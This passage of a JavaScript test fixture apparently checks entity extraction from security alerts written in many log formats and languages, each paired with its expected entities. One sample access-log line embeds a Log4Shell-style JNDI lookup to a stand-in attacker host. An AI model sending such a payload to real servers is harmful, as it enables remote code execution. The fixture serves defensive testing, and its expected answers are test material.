    entities: ['host hb-ws-13', 'url http://203.0.113.88/x', 'ip 203.0.113.88'],
  },
  // The alerts below were written after the rules. In their first run 15 of 22 were correct.
  {
    format: 'Suricata',
    group: 'JSON',
    content: JSON.stringify({
      event_type: 'alert',
      src_ip: '10.7.7.21',
      src_port: 50123,
      dest_ip: '198.51.100.121',
      dest_port: 80,
      alert: { signature: 'ET TROJAN Checkin', severity: 1 },
      http: { hostname: 'gate.murkwell.example', url: '/in.php' },
    }),
    entities: ['ip 10.7.7.21 source', 'ip 198.51.100.121 destination', 'domain gate.murkwell.example'],
  },
  {
    format: 'identity provider log',
    group: 'JSON',
    content: JSON.stringify({
      actor: { id: '00u1', type: 'User', alternateId: 'b.lowe@harbor.example', displayName: 'Bea Lowe' },
      client: { ipAddress: '203.0.113.122', userAgent: { rawUserAgent: 'Mozilla/5.0' }, geographicalContext: { city: 'Lima' } },
      eventType: 'user.session.start',
      outcome: { result: 'FAILURE' },
    }),
    entities: ['email b.lowe@harbor.example actor', 'ip 203.0.113.122 source'],
  },
  {
    format: 'CloudTrail',
    group: 'JSON',
    content: JSON.stringify({
      eventSource: 'iam.amazonaws.com',
      eventName: 'CreateAccessKey',
      sourceIPAddress: '203.0.113.123',
      userIdentity: { type: 'IAMUser', userName: 'deploy-bot', accountId: '111122223333' },
      requestParameters: { userName: 'backup-admin' },
    }),
    entities: ['domain iam.amazonaws.com', 'ip 203.0.113.123 source', 'user deploy-bot', 'user backup-admin'],
  },
  {
    format: 'observables of a case system',
    group: 'JSON',
    content: JSON.stringify({
      title: 'Phish',
      observables: [
        { dataType: 'ip', data: '203.0.113.124' },
        { dataType: 'hostname', data: 'hb-lt-124' },
        { dataType: 'mail', data: 'x@crowmail.example' },
      ],
    }),
    entities: ['ip 203.0.113.124', 'host hb-lt-124', 'email x@crowmail.example', 'domain crowmail.example'],
  },
  {
    format: 'office audit log',
    group: 'JSON',
    content: JSON.stringify({
      Operation: 'New-InboxRule',
      UserId: 'c.mbeki@harbor.example',
      ClientIP: '[2001:db8::125]:50432',
      Parameters: [{ Name: 'ForwardTo', Value: 'drop@outlet-mail.example' }],
    }),
    entities: [
      'user c.mbeki@harbor.example',
      'email c.mbeki@harbor.example',
      'ip 2001:db8::125 source',
      'email drop@outlet-mail.example',
      'domain outlet-mail.example',
    ],
  },
  {
    format: 'chat card with facts',
    group: 'JSON',
    content: JSON.stringify({
      '@type': 'MessageCard',
      sections: [
        {
          facts: [
            { name: 'Device:', value: 'hb-pc-126' },
            { name: 'Logged-on user', value: 'HARBOR\\d.finn' },
          ],
        },
      ],
    }),
    entities: ['host hb-pc-126', 'user harbor\\d.finn'],
  },
  {
    format: 'alert manager',
    group: 'JSON',
    content: JSON.stringify({ alerts: [{ labels: { alertname: 'EgressSpike', instance: 'hb-app-127:9100', severity: 'critical' } }] }),
    entities: ['host hb-app-127'],
  },
  {
    format: 'firewall syslog in prose',
    group: 'log line',
    content:
      '<166>Jun 03 2026 10:10:10 hb-fw-1 : %ASA-6-302013: Built outbound TCP connection 9 for outside:203.0.113.128/443 to inside:10.8.0.28/51000',
    entities: ['host hb-fw-1', 'ip 203.0.113.128', 'ip 10.8.0.28'],
  },
  {
    format: 'web server access log',
    group: 'log line',
    content:
      '203.0.113.129 - - [03/Jun/2026:10:10:10 +0000] "GET /?x=$%7Bjndi:ldap://a.murkwell.example/o%7D HTTP/1.1" 200 12 "-" "curl/8.1.2"',
    entities: ['ip 203.0.113.129', 'domain a.murkwell.example'],
  },
  {
    format: 'logfmt',
    group: 'log line',
    content: 'ts=2026-06-03T10:10:10Z level=warn msg="brute force" user=svc_backup src_ip=203.0.113.130 host=hb-vpn-2',
    entities: ['user svc_backup', 'ip 203.0.113.130 source', 'host hb-vpn-2'],
  },
  {
    format: 'Windows event as text',
    group: 'log line',
    content:
      'An account failed to log on.\r\n\r\nSubject:\r\n\tAccount Name:\t\tHB-DC-3$\r\n\r\nAccount For Which Logon Failed:\r\n\tAccount Name:\t\te.sato\r\n\tAccount Domain:\t\tHARBOR\r\n\r\nNetwork Information:\r\n\tWorkstation Name:\tHB-WS-131\r\n\tSource Network Address:\t203.0.113.131\r\n',
    entities: ['user hb-dc-3$', 'user e.sato', 'host hb-ws-131', 'ip 203.0.113.131 source'],
  },
  {
    format: 'audit log of Linux',
    group: 'log line',
    content:
      'type=USER_LOGIN msg=audit(1780481410.123:99): pid=1 uid=0 acct="f.ivan" exe="/usr/sbin/sshd" hostname=? addr=203.0.113.132 terminal=ssh res=failed',
    entities: ['user f.ivan', 'ip 203.0.113.132'],
  },
  {
    format: 'Zeek with a header line',
    group: 'table',
    content: '#separator \\x09\n#fields\tts\tid.orig_h\tid.resp_h\tquery\n1780481410.1\t10.8.0.33\t203.0.113.133\tkeep.murkwell.example\n',
    entities: ['ip 10.8.0.33 source', 'ip 203.0.113.133 destination', 'domain keep.murkwell.example'],
  },
  {
    format: 'table aligned with spaces',
    group: 'table',
    content: `Host        : hb-srv-34\nUser        : HARBOR\\g.hale\nRemote IP   : 203.0.113.134\nSHA256      : ${SHA256}`,
    entities: ['host hb-srv-34', 'user harbor\\g.hale', 'ip 203.0.113.134', `hash ${SHA256}`],
  },
  {
    format: 'INI',
    group: 'markup',
    content: '[alert]\nname = Beacon\nhostname = hb-pc-135\nusername = h.irwin\n[network]\ndestination_ip = 203.0.113.135\n',
    entities: ['host hb-pc-135', 'user h.irwin', 'ip 203.0.113.135 destination'],
  },
  {
    format: 'chat message with markup',
    group: 'prose',
    content:
      '*Malware blocked*\n>*Host:* `hb-pc-136`\n>*User:* <mailto:i.jung@harbor.example|i.jung@harbor.example>\n>*File:* `a.exe` (`' +
      MD5 +
      '`)',
    entities: ['host hb-pc-136', 'user i.jung@harbor.example', 'email i.jung@harbor.example', `hash ${MD5}`],
  },
  {
    format: 'Spanish mail forwarded as text',
    group: 'mail',
    content:
      'Reenvío para revisar:\n\nDe: "Banco" <aviso@banco-aviso.example>\nEnviado el: lunes, 1 de junio de 2026 9:00\nPara: Julia Kent <j.kent@harbor.example>\nAsunto: Bloqueo\n\nEntre en hxxp://banco-aviso[.]example/es',
    entities: [
      'email aviso@banco-aviso.example sender',
      'domain banco-aviso.example',
      'email j.kent@harbor.example recipient',
      'url http://banco-aviso.example/es',
    ],
  },
  {
    format: 'Italian prose',
    group: 'prose',
    content:
      "L'utente k.longo ha aperto un allegato sul computer mil-pc-138; l'indirizzo di destinazione: 203.0.113.138. Incidente n. 8812.",
    entities: ['user k.longo', 'host mil-pc-138', 'ip 203.0.113.138 destination', 'incident-id 8812'],
  },
  {
    format: 'Vietnamese and Indonesian labels',
    group: 'prose',
    content: 'Người dùng: l.minh\nMáy tính: han-pc-139\nPengguna: m.putri\nKomputer: jkt-pc-140',
    entities: ['user l.minh', 'host han-pc-139', 'user m.putri', 'host jkt-pc-140'],
  },
  {
    format: 'Hebrew and Greek labels',
    group: 'prose',
    content: 'משתמש: n.levi\nמחשב: tlv-pc-141\nΧρήστης: o.pappas\nΥπολογιστής: ath-pc-142',
    entities: ['user n.levi', 'host tlv-pc-141', 'user o.pappas', 'host ath-pc-142'],
  },
  {
    format: 'traditional Chinese prose',
    group: 'prose',
    content: '使用者 p.chen 在主機 tpe-nb-143 上執行了可疑程式，連線至 203.0.113.143。事件編號：70143',
    entities: ['user p.chen', 'host tpe-nb-143', 'ip 203.0.113.143', 'incident-id 70143'],
  },
  {
    format: 'JSON in a code block with a question',
    group: 'prose',
    content:
      'Can you check this?\n```json\n{"hostname": "hb-pc-144", "dst": "203.0.113.144"}\n```\nIt belongs to incident INC0044144, thanks.',
    entities: ['host hb-pc-144', 'ip 203.0.113.144 destination', 'incident-id INC0044144'],
  },
];
